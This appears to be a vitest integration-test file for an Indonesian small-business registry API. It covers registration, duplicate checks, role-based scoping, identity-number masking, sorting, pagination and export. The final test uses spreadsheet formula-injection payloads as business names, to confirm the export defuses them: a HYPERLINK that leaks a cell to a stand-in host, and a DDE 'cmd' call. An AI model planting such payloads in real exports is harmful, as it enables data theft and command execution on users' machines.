import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from '../../../../test/support/app.ts';
import { makeBusiness, makeNik } from '../../../../test/support/builders.ts';
import { SORTS } from './businesses.schema.ts';

let t: TestApp;
let admin: string;
let cipondoh: string;
let karawaci: string;
beforeAll(async () => {
  t = await createTestApp();
  admin = (await t.signedIn({ role: 'admin' })).cookie;
  cipondoh = (await t.signedIn({ role: 'area_officer', areaCode: '36.71.05' })).cookie;
  karawaci = (await t.signedIn({ role: 'area_officer', areaCode: '36.71.07' })).cookie;
});
afterAll(() => t.close());

const call = (method: 'GET' | 'POST' | 'PATCH' | 'PUT', url: string, cookie: string, payload?: object) =>
  t.app.inject({ method, url, headers: { cookie }, payload });

describe('registry', () => {
  it('registers a business with its owner, deriving gender, birth date and size class', async () => {
    const b = await makeBusiness(t, admin, {
      owner: { nik: '3671055203850001', name: 'Siti Rahmawati', phone: '+62 812 1111 2222' },
      name: 'Keripik  Siti',
      capital: 1_500_000_000,
      legality: { nib: { number: '9120001234567', date: '2021-03-01' }, halal: { number: 'ID3111000012' } },
      online: { marketplaces: ['tangerangmart.id/keripik-siti'], social: ['@keripiksiti'] },
    });
    expect(b).toMatchObject({
      name: 'Keripik Siti',
      sizeClass: 'small',
      kelurahanCode: '36.71.05.1001',
      kecamatanName: 'Cipondoh',
      owner: {
        nik: '3671055203850001',
        nikMasked: false,
        gender: 'P',
        birthDate: '1985-03-12',
        phone: '081211112222',
      },
      canEdit: true,
    });
  });

  it('guards against duplicates: same NIK offers the owner, same name refuses with a link', async () => {
    const first = await makeBusiness(t, admin, {
      owner: { nik: makeNik(501), name: 'Budi' },
      name: 'Bakso Budi',
    });
    const again = await call('POST', '/api/v1/businesses', admin, {
      owner: { nik: makeNik(501), name: 'Budi S' },
      name: 'Es Budi',
      sector: 'kuliner',
      kelurahanCode: '36.71.05.1001',
    });
    expect(again.statusCode).toBe(409);
    expect(again.json()).toMatchObject({ code: 'OwnerExists', ownerId: first.owner.id, ownerName: 'Budi' });
    const lookup = await call('GET', `/api/v1/owners/lookup?nik=${makeNik(501)}`, admin);
    expect(lookup.json()).toMatchObject({ exists: true, owner: { id: first.owner.id, businesses: 1 } });

    const second = await makeBusiness(t, admin, {
      owner: { nik: makeNik(501), name: 'Budi' },
      useExistingOwner: true,
      name: 'Es Budi',
    });
    expect(second.owner.id).toBe(first.owner.id);
    const twin = await call('POST', '/api/v1/businesses', admin, {
      owner: { nik: makeNik(501), name: 'Budi' },
      useExistingOwner: true,
      name: 'bakso  BUDI',
      sector: 'kuliner',
      kelurahanCode: '36.71.05.1001',
    });
    expect(twin.statusCode).toBe(409);
    expect(twin.json()).toMatchObject({ code: 'BusinessExists', businessId: first.id });
  });

  it('refuses bad input with Indonesian field errors and writes nothing', async () => {
    const cases: [object, string, string][] = [
      [{ owner: { nik: '3671053102850001', name: 'X Y' } }, 'NikInvalid', 'body.owner.nik'],
      [{ owner: { nik: makeNik(600), name: 'X Y', phone: '12345' } }, 'PhoneInvalid', 'body.owner.phone'],
      [{ kelurahanCode: '3273010001' }, 'AreaUnknown', 'body.kelurahanCode'],
      [{ capital: -1 }, 'ValidationFailed', 'body.capital'],
      [{ capital: 1.5 }, 'ValidationFailed', 'body.capital'],
      [{ sector: 'tambang' }, 'ValidationFailed', 'body.sector'],
    ];
    for (const [patch, code, path] of cases) {
      const res = await call('POST', '/api/v1/businesses', admin, {
        owner: { nik: makeNik(601), name: 'Pemilik Baru' },
        name: 'Usaha Baru',
        sector: 'jasa',
        kelurahanCode: '36.71.05.1001',
        ...patch,
      });
      expect(res.statusCode, JSON.stringify(patch)).toBe(400);
      expect(res.json().code).toBe(code);
      expect(res.json().errors.map((e: { path: string }) => e.path)).toContain(path);
    }
    const n = await t.db.selectFrom('owner').select('id').where('nik', '=', makeNik(601)).execute();
    expect(n).toHaveLength(0);
  });

  it('scopes officers to their kecamatan for reading and writing', async () => {
    const inKarawaci = await makeBusiness(t, admin, {
      kelurahanCode: '36.71.07.1001',
      name: 'Usaha Karawaci',
    });
    expect((await call('GET', `/api/v1/businesses/${inKarawaci.id}`, cipondoh)).statusCode).toBe(404);
    expect(
      (await call('PATCH', `/api/v1/businesses/${inKarawaci.id}`, cipondoh, { name: 'Diubah' })).statusCode,
    ).toBe(404);
    expect((await call('GET', `/api/v1/businesses/${inKarawaci.id}`, karawaci)).statusCode).toBe(200);
    const list = (await call('GET', '/api/v1/businesses?pageSize=200', cipondoh)).json();
    expect(list.items.every((b: { kecamatanCode: string }) => b.kecamatanCode === '36.71.05')).toBe(true);
    const moveOut = await call('POST', '/api/v1/businesses', cipondoh, {
      owner: { nik: makeNik(700), name: 'Di Luar' },
      name: 'Usaha Luar',
      sector: 'jasa',
      kelurahanCode: '36.71.07.1002',
    });
    expect(moveOut.statusCode).toBe(403);
    expect(moveOut.json().code).toBe('OutOfScope');
  });

  it('masks NIK for mentors and lets mentors work only on their businesses', async () => {
    const lp3w = await t.db
      .insertInto('institution')
      .values({ name: 'LP3W' })
      .returning('id')
      .executeTakeFirstOrThrow();
    const { user: mentor, cookie } = await t.signedIn({ role: 'mentor', institutionId: lp3w.id });
    const mine = await makeBusiness(t, admin, {
      mentorId: mentor.id,
      name: 'Binaan Mentor',
      owner: { nik: makeNik(801), name: 'Binaan' },
    });
    const other = await makeBusiness(t, admin, { name: 'Bukan Binaan' });
    const got = (await call('GET', `/api/v1/businesses/${mine.id}`, cookie)).json();
    expect(got.owner.nik).toBe(`${makeNik(801).slice(0, 4)}********${makeNik(801).slice(12)}`);
    expect(got.owner.nikMasked).toBe(true);
    expect(got.owner.birthDate).toBeNull();
    expect((await call('GET', `/api/v1/businesses/${other.id}`, cookie)).statusCode).toBe(404);
    const list = (await call('GET', '/api/v1/businesses', cookie)).json();
    expect(list.items.map((b: { id: number }) => b.id)).toEqual([mine.id]);
    // A mentor cannot find a business by NIK (it would reveal the NIK)
    expect((await call('GET', `/api/v1/businesses?q=${makeNik(801)}`, cookie)).json().total).toBe(0);
    expect((await call('GET', `/api/v1/businesses?q=${makeNik(801)}`, admin)).json().total).toBe(1);
  });

  it('never serves a list kept for one user to a user who sees other businesses', async () => {
    const lp3w = await t.db
      .insertInto('institution')
      .values({ name: 'LP3W Simpan' })
      .returning('id')
      .executeTakeFirstOrThrow();
    const [m1, m2] = [
      await t.signedIn({ role: 'mentor', institutionId: lp3w.id }),
      await t.signedIn({ role: 'mentor', institutionId: lp3w.id }),
    ];
    const inCipondoh = await makeBusiness(t, admin, { name: 'Simpan Satu', mentorId: m1.user.id });
    const inKarawaci = await makeBusiness(t, admin, {
      name: 'Simpan Dua',
      kelurahanCode: '36.71.07.1001',
      mentorId: m2.user.id,
    });
    // Nothing is written from here on: every answer after the first may come from what is kept.
    const ids = async (cookie: string) =>
      (await call('GET', '/api/v1/businesses?q=simpan', cookie))
        .json()
        .items.map((b: { id: number }) => b.id);
    const seen = async () => ({
      admin: await ids(admin),
      cipondoh: await ids(cipondoh),
      karawaci: await ids(karawaci),
      m1: await ids(m1.cookie),
      m2: await ids(m2.cookie),
    });
    const expected = {
      admin: [inKarawaci.id, inCipondoh.id],
      cipondoh: [inCipondoh.id],
      karawaci: [inKarawaci.id],
      m1: [inCipondoh.id],
      m2: [inKarawaci.id],
    };
    expect(await seen()).toEqual(expected);
    expect(await seen()).toEqual(expected);
  });

  it('opens on the newest month in which at least half as many businesses reported as in the busiest', async () => {
    const [a, b, c] = [
      await makeBusiness(t, admin, { name: 'Lapor Satu' }),
      await makeBusiness(t, admin, { name: 'Lapor Dua' }),
      await makeBusiness(t, admin, { name: 'Lapor Tiga' }),
    ];
    const report = async (id: number, period: string) =>
      expect(
        (await call('PUT', `/api/v1/businesses/${id}/omzet/${period}`, admin, { amount: 1_000_000 }))
          .statusCode,
      ).toBe(200);
    for (const id of [a.id, b.id, c.id]) await report(id, '2021-01');
    for (const id of [a.id, b.id]) await report(id, '2021-02');
    await report(a.id, '2021-03');
    // By name: Lapor Dua, Lapor Satu, Lapor Tiga (who has not reported in the month the list opens on).
    const opened = async () => (await call('GET', '/api/v1/businesses?q=lapor', admin)).json();
    expect((await opened()).period).toBe('2021-02');
    expect(
      (await opened()).items.map((i: { latest: { period: string } | null }) => i.latest?.period),
    ).toEqual(['2021-02', '2021-02', undefined]);
    await report(b.id, '2021-03');
    expect((await opened()).period).toBe('2021-03');
  });

  it('keeps the default month where reporting is representative when one business reports later months', async () => {
    const periods = async () => (await call('GET', '/api/v1/omzet/periods', admin)).json();
    const before = await periods();
    expect(before.defaultPeriod).toBe('2021-03');
    const early = await makeBusiness(t, admin, { name: 'Lapor Duluan' });
    for (const period of ['2021-04', '2021-05']) {
      const res = await call('PUT', `/api/v1/businesses/${early.id}/omzet/${period}`, admin, {
        amount: 500_000,
      });
      expect(res.statusCode).toBe(200);
    }
    // The sparse months stay selectable, but Home, the dashboard and the list open on March.
    const after = await periods();
    expect(after.periods.slice(-3)).toEqual(['2021-03', '2021-04', '2021-05']);
    expect(after.defaultPeriod).toBe('2021-03');
    expect((await call('GET', '/api/v1/businesses?q=lapor', admin)).json().period).toBe('2021-03');
    const may = (await call('GET', '/api/v1/omzet/stats?period=2021-05&by=city', admin)).json();
    expect(may.rows[0].reporting).toBe(1);
  });

  it('lists with search, filters, sorting and pagination', async () => {
    await makeBusiness(t, admin, {
      name: 'Batik Larangan',
      sector: 'fesyen',
      kelurahanCode: '36.71.13.1001',
      owner: { nik: makeNik(901), name: 'Ani Larasati', phone: '081300000001' },
    });
    const byName = (await call('GET', '/api/v1/businesses?q=larasati', admin)).json();
    expect(byName.items.map((b: { name: string }) => b.name)).toEqual(['Batik Larangan']);
    const byPhone = (await call('GET', '/api/v1/businesses?q=6281300000001', admin)).json();
    expect(byPhone.total).toBe(1);
    const fesyen = (await call('GET', '/api/v1/businesses?sector=fesyen&kecamatan=36.71.13', admin)).json();
    expect(fesyen.total).toBe(1);
    const halal = (await call('GET', '/api/v1/businesses?legality=halal', admin)).json();
    expect(halal.items.map((b: { name: string }) => b.name)).toEqual(['Keripik Siti']);
    const page = (await call('GET', '/api/v1/businesses?pageSize=2&page=1&sort=-name', admin)).json();
    const all = (await call('GET', '/api/v1/businesses?pageSize=200&sort=-name', admin)).json();
    expect(page.items.map((b: { id: number }) => b.id)).toEqual(
      all.items.slice(0, 2).map((b: { id: number }) => b.id),
    );
    expect(page.total).toBe(all.total);
    expect((await call('GET', '/api/v1/businesses?sort=evil', admin)).statusCode).toBe(400);
  });

  it('pages through every sort order without skipping or repeating a business', async () => {
    // Two businesses share a name (different owners) and one has no baseline: ties and nulls.
    await makeBusiness(t, admin, {
      name: 'Warung Sama',
      baselineOmzet: 5_000_000,
      owner: { nik: makeNik(911) },
    });
    await makeBusiness(t, admin, {
      name: 'Warung Sama',
      baselineOmzet: 5_000_000,
      owner: { nik: makeNik(912) },
    });
    await makeBusiness(t, admin, {
      name: 'Apotek Tanpa Dasar',
      baselineOmzet: null,
      owner: { nik: makeNik(913) },
    });
    type Item = {
      id: number;
      name: string;
      baselineOmzet: number | null;
      kelurahanCode: string;
      latest: { amount: number; declinePct: number | null } | null;
    };
    const list = async (query: string) => (await call('GET', `/api/v1/businesses?${query}`, admin)).json();
    const collation = new Intl.Collator('en');
    for (const sort of SORTS) {
      const all: { items: Item[]; total: number } = await list(`pageSize=200&sort=${sort}`);
      expect(all.items).toHaveLength(all.total);
      const walked: Item[] = [];
      for (let page = 1; walked.length < all.total; page++) {
        const items: Item[] = (await list(`pageSize=2&page=${page}&sort=${sort}`)).items;
        expect(items.length).toBeGreaterThan(0);
        walked.push(...items);
      }
      expect(
        walked.map((b) => b.id),
        sort,
      ).toEqual(all.items.map((b) => b.id));
      const desc = sort.startsWith('-');
      // The nullable sorts (baseline; the period's turnover and its change) put "none" last both ways.
      const nullable = (b: Item): number | null =>
        sort.endsWith('baseline')
          ? b.baselineOmzet
          : sort.endsWith('turnover')
            ? (b.latest?.amount ?? null)
            : b.latest?.declinePct == null
              ? null
              : -b.latest.declinePct;
      for (let i = 1; i < walked.length; i++) {
        const [a, b] = [walked[i - 1]!, walked[i]!];
        if (/baseline|turnover|change/.test(sort)) {
          const [x, y] = [nullable(a), nullable(b)];
          if (x === null) {
            expect(y, `${sort}: none comes last`).toBeNull();
            continue;
          }
          if (y === null) continue;
          expect(desc ? x >= y : x <= y, `${sort}: ${a.name} before ${b.name}`).toBe(true);
          continue;
        }
        const cmp = sort.endsWith('name')
          ? collation.compare(a.name.toLowerCase(), b.name.toLowerCase())
          : sort.endsWith('created')
            ? a.id - b.id
            : a.kelurahanCode.localeCompare(b.kelurahanCode);
        expect(desc ? cmp >= 0 : cmp <= 0, `${sort}: ${a.name} before ${b.name}`).toBe(true);
      }
    }
    const same = await list('q=warung%20sama');
    expect(same.total).toBe(2);
    const byOwnerAndName = await list('q=sama');
    expect(byOwnerAndName.items.map((b: Item) => b.name)).toContain('Warung Sama');
  });

  it('sorts by the period’s turnover and by its change, on the server, none last and ties stable', async () => {
    const kel = '36.71.13.1001';
    const made: Record<string, number> = {};
    const business = async (name: string, baseline: number | null, serial: number) => {
      made[name] = (
        await makeBusiness(t, admin, {
          name,
          baselineOmzet: baseline,
          kelurahanCode: kel,
          owner: { nik: makeNik(serial) },
        })
      ).id;
    };
    await business('Sortir Jatuh', 10_000_000, 971); // 2.000.000: −80 %
    await business('Sortir Naik', 4_000_000, 972); // 5.000.000: +25 %
    await business('Sortir Tetap A', 5_000_000, 973); // 4.000.000: −20 %
    await business('Sortir Tetap B', 5_000_000, 974); // 4.000.000: −20 % (a tie with A)
    await business('Sortir Tanpa Dasar', null, 975); // 3.000.000: no change to tell
    await business('Sortir Belum Lapor', 6_000_000, 976); // no report in the period
    const report = async (name: string, amount: number) =>
      expect(
        (await call('PUT', `/api/v1/businesses/${made[name]}/omzet/2026-09`, admin, { amount })).statusCode,
      ).toBe(200);
    await report('Sortir Jatuh', 2_000_000);
    await report('Sortir Naik', 5_000_000);
    await report('Sortir Tetap A', 4_000_000);
    await report('Sortir Tetap B', 4_000_000);
    await report('Sortir Tanpa Dasar', 3_000_000);
    const names = async (sort: string) =>
      (
        (
          await call(
            'GET',
            `/api/v1/businesses?kelurahan=${kel}&q=Sortir&period=2026-09&sort=${sort}&pageSize=50`,
            admin,
          )
        ).json().items as { name: string }[]
      ).map((b) => b.name);
    expect(await names('-turnover')).toEqual([
      'Sortir Naik',
      'Sortir Tetap A',
      'Sortir Tetap B',
      'Sortir Tanpa Dasar',
      'Sortir Jatuh',
      'Sortir Belum Lapor',
    ]);
    expect(await names('turnover')).toEqual([
      'Sortir Jatuh',
      'Sortir Tanpa Dasar',
      'Sortir Tetap A',
      'Sortir Tetap B',
      'Sortir Naik',
      'Sortir Belum Lapor',
    ]);
    // The deepest fall first; the business without a baseline and the one without a report come last.
    expect(await names('change')).toEqual([
      'Sortir Jatuh',
      'Sortir Tetap A',
      'Sortir Tetap B',
      'Sortir Naik',
      'Sortir Tanpa Dasar',
      'Sortir Belum Lapor',
    ]);
    expect(await names('-change')).toEqual([
      'Sortir Naik',
      'Sortir Tetap A',
      'Sortir Tetap B',
      'Sortir Jatuh',
      'Sortir Tanpa Dasar',
      'Sortir Belum Lapor',
    ]);
  });

  it('edits and archives with a timeline of what happened', async () => {
    const total = async (query = '') => (await call('GET', `/api/v1/businesses${query}`, admin)).json().total;
    const before = await total();
    const b = await makeBusiness(t, admin, { name: 'Kopi Pinang', kelurahanCode: '36.71.11.1001' });
    // The list's count shows a registration and an archiving at once.
    expect(await total()).toBe(before + 1);
    expect(await total('?q=Kopi%20Pinang')).toBe(1);
    const edited = await call('PATCH', `/api/v1/businesses/${b.id}`, admin, {
      employees: 4,
      baselineOmzet: 12_000_000,
    });
    expect(edited.json()).toMatchObject({ employees: 4, baselineOmzet: 12_000_000 });
    const archived = await call('POST', `/api/v1/businesses/${b.id}/archive`, admin);
    expect(archived.json().archived).toBe(true);
    expect(await total()).toBe(before);
    expect((await call('GET', '/api/v1/businesses?q=Kopi%20Pinang', admin)).json().total).toBe(0);
    expect((await call('GET', '/api/v1/businesses?q=Kopi%20Pinang&archived=true', admin)).json().total).toBe(
      1,
    );
    const timeline = (await call('GET', `/api/v1/businesses/${b.id}/timeline`, admin)).json();
    expect(timeline.map((e: { kind: string }) => e.kind)).toEqual(['create', 'update', 'archive']);
    expect(timeline[1]).toMatchObject({
      previous: { employees: null, baseline_omzet: 10_000_000 },
      summary: { employees: 4 },
    });
  });

  it('merges two owner records of one person', async () => {
    const a = await makeBusiness(t, admin, {
      owner: { nik: makeNik(1101), name: 'Dewi' },
      name: 'Jahit Dewi',
    });
    const b = await makeBusiness(t, admin, {
      owner: { nik: makeNik(1103), name: 'Dewi S.' },
      name: 'Kue Dewi',
    });
    const { cookie: officer } = { cookie: cipondoh };
    expect(
      (await call('POST', `/api/v1/owners/${b.owner.id}/merge`, officer, { intoOwnerId: a.owner.id }))
        .statusCode,
    ).toBe(403);
    const merged = await call('POST', `/api/v1/owners/${b.owner.id}/merge`, admin, {
      intoOwnerId: a.owner.id,
    });
    expect(merged.statusCode).toBe(200);
    expect(merged.json().businesses).toBe(2);
    const lookup = (await call('GET', `/api/v1/owners/lookup?nik=${makeNik(1103)}`, admin)).json();
    expect(lookup.owner.id).toBe(a.owner.id);
  });

  it('exports the filtered list: NIK masked for mentors, full for officers, always audit-logged', async () => {
    const res = await call('GET', '/api/v1/businesses/export?format=csv&kecamatan=36.71.05', admin);
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toContain('text/csv');
    const lines = res.body
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\n');
    expect(lines[0]).toMatch(
      /^nik,nama_pemilik,no_hp,no_kk,nama_usaha,sektor,kbli,alamat,kode_kelurahan,modal_usaha,omzet_tahunan,omzet_bulanan_sebelum_pandemi,tenaga_kerja,nib/,
    );
    expect(res.body).toContain('3671055203850001');
    const xlsx = await call('GET', '/api/v1/businesses/export?format=xlsx', admin);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
    const ws = wb.worksheets[0]!;
    expect(ws.getRow(1).getCell(1).value).toBe('nik');
    expect(typeof ws.getRow(2).getCell(1).value).toBe('string');
    const audit = await t.db
      .selectFrom('audit_log')
      .selectAll()
      .where('action', 'in', ['export', 'export_full_nik'])
      .execute();
    expect(audit.length).toBe(2);
    expect(audit[0]!.action).toBe('export_full_nik');
  });

  it('exports a name that would run as a spreadsheet formula as text', async () => {
    const names = ['=HYPERLINK("http://x.example/?leak="&A2,"klik")', "+cmd|' /C calc'!A0", '@SUM(1+1)'];
    for (const name of names) await makeBusiness(t, admin, { name });
    const res = await call('GET', '/api/v1/businesses/export?format=csv', admin);
    expect(res.statusCode).toBe(200);
    expect(res.body).toContain('"\'=HYPERLINK(""http://x.example/?leak=""&A2,""klik"")"');
    expect(res.body).toContain(",'+cmd|' /C calc'!A0,");
    expect(res.body).toContain(",'@SUM(1+1),");
    // No field of any line starts a formula.
    expect(res.body).not.toMatch(/(^|,)"?[=+@]/m);
  });
});
